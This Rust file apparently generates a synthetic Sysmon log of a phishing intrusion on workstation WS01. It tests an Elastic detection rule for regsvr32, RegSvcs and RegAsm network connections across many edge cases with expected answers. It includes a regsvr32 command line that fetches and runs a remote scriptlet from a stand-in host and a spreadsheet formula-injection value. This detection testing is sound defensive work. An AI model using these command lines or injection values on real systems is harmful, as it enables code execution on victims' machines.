//! The workstation: the way in, and both sides of every clause of the Elastic rule but the addresses.

use super::Sample;
use super::teller::{Answer, Start, Started, Teller, To};
use super::words::*;
use crate::evtx::{Log, Sid, Value};
use crate::sysmon::{Event, Generation, Host, process_create, process_terminate};

/// The host.
pub fn host() -> Host {
    Host::new("WS01.corp.example", 0x2f1c_8a40)
}

fn tell() -> Teller {
    let mut t = Teller::new(host(), Generation::New, "2026-03-02 08:15:00.000", 5001);
    way_in(&mut t);
    parents(&mut t);
    names(&mut t);
    protocols(&mut t);
    clocks(&mut t);
    identities(&mut t);
    cells(&mut t);
    const DAY: u64 = 86_400_000;
    t.case(
        "connection written to the log 3 days after it happened",
        &Start::of(REGSVR32),
        &To::ip(STAGER).late(3 * DAY),
        Answer::Both,
    );
    t
}

/// The log of Sysmon 15.
pub fn story() -> Sample {
    let t = tell();
    Sample {
        name: "ws01-sysmon.evtx",
        about: "WS01, Sysmon 15: the way in, and every clause of the Elastic rule but the addresses",
        bytes: t.log().into_bytes(),
        told: t.told,
        records: t.records,
        findings: t.findings,
    }
}

/// A volume shadow copy of the same log, older than it: its first 30 records again, under a name
/// that does not say what it is.
pub fn shadow_copy() -> Sample {
    let t = tell();
    let mut log = Log::in_memory();
    let (mut told, mut records) = (t.told, t.records);
    told.truncate(30);
    records.truncate(30);
    for record in &records {
        log.push(record).expect("records are short");
    }
    for told in &mut told {
        told.what = format!("again: {}", told.what);
        (told.elastic, told.splunk) = (Answer::No, false);
    }
    Sample {
        name: "ws01-sysmon.shadowcopy",
        about: "WS01: a shadow copy of part of the log before, so every record is a duplicate",
        bytes: log.into_bytes(),
        told,
        records,
        findings: Vec::new(),
    }
}

fn way_in(t: &mut Teller) {
    let word = t.start(
        &Start::of(WORD).line(&format!(
            "\"{WORD}\" /n \"C:\\Users\\alice\\Downloads\\invoice.docm\""
        )),
        "alice opens a document",
    );
    let line = "regsvr32.exe /s /n /u /i:http://cdn.example/a.sct scrobj.dll";
    let regsvr32 = t.start(
        &Start::of(REGSVR32).under(WORD).line(line),
        "Word starts regsvr32: a user's process under Program Files",
    );
    let asked = Event::new(Generation::New, 22)
        .with("UtcTime", t.clock.plus_ms(300).to_sysmon())
        .with("ProcessGuid", Value::Guid(regsvr32.process.guid(&t.host)))
        .with("ProcessId", Value::UInt32(regsvr32.process.pid))
        .with("QueryName", "cdn.example")
        .with("QueryStatus", "0")
        .with("QueryResults", "::ffff:93.184.216.34;")
        .with("Image", REGSVR32)
        .with("User", ALICE.name)
        .filled();
    t.event(t.clock.plus_ms(900), &asked, "regsvr32 asks for the name");
    let to = To::ip(STAGER)
        .port(80, "http")
        .with(|c| c.hostname = "cdn.example".to_owned());
    t.connect(
        &regsvr32,
        &to,
        Answer::Forensic,
        "regsvr32 fetches the scriptlet; the live pipeline takes the user for SYSTEM",
    );
    t.connect(
        &regsvr32,
        &to,
        Answer::No,
        "a second connection of the same process: its start is used up",
    );
    let end = t.clock.plus_ms(2_500);
    t.event(
        end,
        &process_terminate(&t.host, &regsvr32.process, end),
        "regsvr32 ends",
    );
    let dropped = Event::new(Generation::New, 11)
        .with("UtcTime", t.clock.plus_ms(3_100).to_sysmon())
        .with("ProcessGuid", Value::Guid(word.process.guid(&t.host)))
        .with("ProcessId", Value::UInt32(word.process.pid))
        .with("Image", WORD)
        .with(
            "TargetFilename",
            r"C:\Users\alice\AppData\Local\Temp\form.dll",
        )
        .with("CreationUtcTime", t.clock.plus_ms(3_100).to_sysmon())
        .with("User", ALICE.name)
        .filled();
    t.event(t.clock.plus_ms(3_120), &dropped, "Word drops a library");
    t.case(
        "from the desktop: no exclusion speaks of it",
        &Start::of(REGSVR32),
        &To::ip(STAGER),
        Answer::Both,
    );
}

fn parents(t: &mut Teller) {
    use Answer::{Both, Forensic, No};
    let to = To::ip(STAGER);
    let mut case = |what: &str, user, parent, answer| {
        t.case(
            what,
            &Start::of(REGSVR32).user(user).under(parent),
            &to,
            answer,
        );
    };
    case("parent msiexec, as SYSTEM: excluded", SYSTEM, MSIEXEC, No);
    case("parent msiexec, as a user", ALICE, MSIEXEC, Forensic);
    case(
        "parent msiexec, as LOCAL SERVICE, who is not SYSTEM",
        LOCAL_SERVICE,
        MSIEXEC,
        Forensic,
    );
    case(
        "parent msiexec in other letter case, as SYSTEM: excluded",
        SYSTEM,
        r"C:\WINDOWS\system32\MSIEXEC.EXE",
        No,
    );
    case(
        "parent msiexec, as SYSTEM of a French Windows: excluded",
        SYSTEME,
        MSIEXEC,
        No,
    );
    case(
        "parent whose name only ends like msiexec, as SYSTEM",
        SYSTEM,
        r"C:\Windows\Temp\notmsiexec.exe",
        Both,
    );
    case("parent cmd, as SYSTEM", SYSTEM, CMD, Both);
    case(
        "parent in Program Files (x86), as SYSTEM: excluded",
        SYSTEM,
        UPDATER,
        No,
    );
    case(
        "parent in Program Files (x86), as a user",
        ALICE,
        UPDATER,
        Forensic,
    );
    case(
        "parent in Program Files, as SYSTEM: excluded",
        SYSTEM,
        WORD,
        No,
    );
    case("parent in Program Files, as a user", BOB, WORD, Forensic);
    case(
        "parent in Program Files in other letter case, as SYSTEM: excluded",
        SYSTEM,
        r"c:\program files\CONTOSO\AGENT.EXE",
        No,
    );
    case(
        "parent in a folder whose name only begins so, as SYSTEM",
        SYSTEM,
        r"C:\Program Files Tools\agent.exe",
        Both,
    );
    case(
        "parent in Program Files of another drive, as SYSTEM",
        SYSTEM,
        r"D:\Program Files\Contoso\agent.exe",
        Both,
    );
    case(
        "parent in Program Files that is no .exe, as SYSTEM",
        SYSTEM,
        r"C:\Program Files\Contoso\agent.com",
        Both,
    );
    case(
        "parent in ProgramData, as SYSTEM",
        SYSTEM,
        r"C:\ProgramData\Contoso\agent.exe",
        Both,
    );

    let service = std::mem::replace(&mut t.host.writer, sid(1104));
    t.case(
        "parent msiexec, as a user, recorded under that user's identifier",
        &Start::of(REGSVR32).under(MSIEXEC),
        &to,
        Both,
    );
    t.case(
        "parent msiexec, as SYSTEM, recorded under a user's identifier: the live pipeline takes it for that user's",
        &Start::of(REGSVR32).user(SYSTEM).under(MSIEXEC),
        &to,
        Answer::Live,
    );
    t.host.writer = service;
}

fn sid(user: u32) -> Sid {
    Sid {
        authority: 5,
        parts: vec![21, 1_004_336_348, 1_177_238_915, 682_003_330, user],
    }
}

fn names(t: &mut Teller) {
    use Answer::{Both, No};
    let to = To::ip(STAGER);
    t.case(
        "the second name: RegSvcs.exe",
        &Start::of(REGSVCS),
        &to,
        Both,
    );
    let regasm = t.case("the third name: RegAsm.exe", &Start::of(REGASM), &to, Both);
    t.splunk(regasm);
    t.case(
        "regsvr32 in capitals",
        &Start::of(r"C:\WINDOWS\SYSTEM32\REGSVR32.EXE"),
        &to,
        Both,
    );
    t.case(
        "regsvcs in small letters",
        &Start::of(r"C:\windows\microsoft.net\framework\v4.0.30319\regsvcs.exe"),
        &to,
        Both,
    );
    t.case(
        "a copy of regsvr32 in another folder",
        &Start::of(r"C:\Users\Public\regsvr32.exe"),
        &to,
        Both,
    );
    t.case(
        "regsvr64, which an earlier version of the rule named",
        &Start::of(r"C:\Windows\System32\regsvr64.exe"),
        &to,
        No,
    );
    t.case(
        "a name that only ends like regsvr32",
        &Start::of(r"C:\Users\Public\myregsvr32.exe"),
        &to,
        No,
    );
    t.case(
        "another program",
        &Start::of(r"C:\Windows\System32\rundll32.exe"),
        &to,
        No,
    );
    t.case(
        "an Image without a backslash has no process name",
        &Start::of("regsvr32.exe"),
        &to,
        No,
    );
    let unknown = to.clone().image("<unknown process>");
    t.case(
        "Sysmon no longer knew the connecting process's name",
        &Start::of(REGSVR32),
        &unknown,
        No,
    );
}

fn protocols(t: &mut Teller) {
    use Answer::{Both, No};
    let mut case = |what: &str, to: To, answer| {
        t.case(what, &Start::of(REGSVR32), &to, answer);
    };
    let to = To::ip(STAGER);
    case("protocol dns", to.clone().port(53, "dns"), No);
    case(
        "port 53 under the name that Windows gives it",
        to.clone().port(53, "domain"),
        Both,
    );
    case(
        "no protocol: the remote port has no name",
        to.clone().port(8443, ""),
        Both,
    );
    case(
        "dns only as the name of the local port, the remote port has none",
        to.clone().port(4444, "").source_name("dns"),
        No,
    );
    case(
        "dns as the name of the local port, but the remote port's name counts",
        to.clone().source_name("dns"),
        Both,
    );
    case("over UDP", to.clone().with(|c| c.transport = "udp"), Both);
    case(
        "a connection from outside",
        to.clone().with(|c| c.initiated = false),
        Both,
    );
}

fn clocks(t: &mut Teller) {
    use Answer::{Both, Forensic};
    const HOUR: i64 = 3_600_000;
    let to = To::ip(STAGER);
    let mut case = |what: &str, to: To, answer| {
        t.case(what, &Start::of(REGSVR32), &to, answer);
    };
    case(
        "connection stamped 2.1 s before its process's start",
        to.clone().stamped(-4_000),
        Forensic,
    );
    case(
        "connection stamped 8 hours before its process's start",
        to.clone().stamped(-8 * HOUR),
        Forensic,
    );
    case(
        "connection stamped in the same millisecond as its process's start",
        to.clone().stamped(-1_900),
        Both,
    );

    let process = t.process(&Start::of(REGSVR32));
    let what = "connection written to the log before its process's start";
    let connection = t.connection(&process, &to.clone().late(40), what);
    let start = t.event(
        t.clock.plus_ms(4_000),
        &process_create(&t.host, &process),
        what,
    );
    t.sequence(start, connection, Both);
}

fn identities(t: &mut Teller) {
    use Answer::{Both, No};
    let to = To::ip(STAGER);
    let first = t.start(
        &Start::of(REGSVR32).pid(7_436),
        "a process that connects to a private address only",
    );
    t.connect(&first, &To::ip("10.20.0.5"), No, "to a private address");
    let end = t.clock.plus_ms(2_500);
    t.event(
        end,
        &process_terminate(&t.host, &first.process, end),
        "it ends, and its process id is free",
    );
    let next = t.start(
        &Start::of(REGSVCS).pid(7_436),
        "the process id used again by another process",
    );
    t.connect(
        &next,
        &to,
        Both,
        "its connection belongs to the second start",
    );
    let ghost = Started {
        record: 0,
        process: t.process(&Start::of(REGSVR32).pid(7_436)),
    };
    t.connect(
        &ghost,
        &to,
        No,
        "the process id a third time, but the start of this process is in no log",
    );

    let twice = t.start(&Start::of(REGSVR32), "private first, then public");
    t.connect(
        &twice,
        &To::ip("192.168.7.20"),
        No,
        "to a private address: not the second stage",
    );
    t.connect(&twice, &to, Both, "then to a public one");
    t.connect(
        &twice,
        &To::ip(BEACON),
        No,
        "and to another: its start is used up",
    );

    let again = t.start(&Start::of(REGSVR32), "a start that Sysmon logs twice");
    t.clock = t.clock.plus_ms(400);
    let mut process = again.process.clone();
    process.start = process.start.plus_ms(400);
    let guid = Value::Guid(again.process.guid(&t.host));
    let event = process_create(&t.host, &process).with("ProcessGuid", guid);
    let record = t.event(t.clock.plus_ms(12), &event, "the same start again");
    t.connect(
        &Started {
            record,
            process: again.process,
        },
        &to,
        Both,
        "pairs with the newest start before it",
    );

    let quiet = t.start(&Start::of(REGSVR32), "a process that never connects");
    let end = t.clock.plus_ms(2_500);
    t.event(
        end,
        &process_terminate(&t.host, &quiet.process, end),
        "it ends",
    );
}

fn cells(t: &mut Teller) {
    let to = To::ip(STAGER);
    t.case(
        "a command line that a spreadsheet would run",
        &Start::of(REGSVR32).line("=cmd|' /C calc'!A0"),
        &to,
        Answer::Both,
    );
    let line =
        "regsvr32.exe /s\r\n/n /u\t/i:\"http://cdn.example/a,b;c.sct\"\n scrobj.dll \u{1b}[31m";
    t.case(
        "line breaks, quotes, a comma and an escape in a command line",
        &Start::of(REGSVR32).line(line),
        &to,
        Answer::Both,
    );
    t.case(
        "letters beyond ASCII and beyond 16 bits",
        &Start::of(REGSVR32).line("regsvr32.exe /s C:\\Users\\alice\\Документы\\📎 счёт.dll"),
        &to,
        Answer::Both,
    );
    let host = To::ip(STAGER).with(|c| c.hostname = "@cdn.example".to_owned());
    t.case(
        "a command line that begins with a tab, a host name that begins with @",
        &Start::of(REGSVR32).line("\t+regsvr32"),
        &host,
        Answer::Both,
    );
}
